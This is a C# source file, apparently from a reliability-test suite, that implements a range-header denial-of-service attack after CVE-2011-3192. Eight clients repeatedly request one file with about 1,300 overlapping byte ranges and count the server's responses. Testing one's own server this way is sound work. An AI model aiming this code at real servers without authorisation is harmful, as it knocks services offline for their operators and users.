using System.Collections.Concurrent;
using System.Globalization;
using System.Net;

namespace FeedApi.Reliability.Attack;

/// <summary>Asks for a large file in very many overlapping pieces at once (CVE-2011-3192).</summary>
internal static class ManyRanges
{
    /// <summary>The path of the file.</summary>
    public const string Path = "/assets/file.bin";

    private const int Clients = 8;
    private const int Ranges = 1_300;

    /// <summary>Attacks until it is told to end.</summary>
    public static async Task<string> RunAsync(Target target, CancellationToken end)
    {
        var answers = new ConcurrentDictionary<HttpStatusCode, int>();
        using var client = new HttpClient(new SocketsHttpHandler { UseProxy = false }) { BaseAddress = target.Http1 };
        var pieces = Enumerable.Range(0, Ranges).Select(i => string.Create(CultureInfo.InvariantCulture, $",5-{i}"));
        var ranges = "bytes=0-" + string.Concat(pieces);
        await Task.WhenAll(Enumerable.Range(0, Clients).Select(_ => Task.Run(AskAsync, CancellationToken.None)));
        return string.Join(", ", answers.Select(each => $"{each.Value}x {(int)each.Key}"));

        async Task AskAsync()
        {
            while (!end.IsCancellationRequested)
            {
                try
                {
                    using var request = new HttpRequestMessage(HttpMethod.Get, Path);
                    request.Headers.TryAddWithoutValidation("Range", ranges);
                    using var answer = await client.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, end);
                    answers.AddOrUpdate(answer.StatusCode, 1, (_, count) => count + 1);
                }
                catch (Exception failure) when (failure is HttpRequestException or OperationCanceledException)
                {
                    // The server has ended the connection, or the time is over.
                }
            }
        }
    }
}
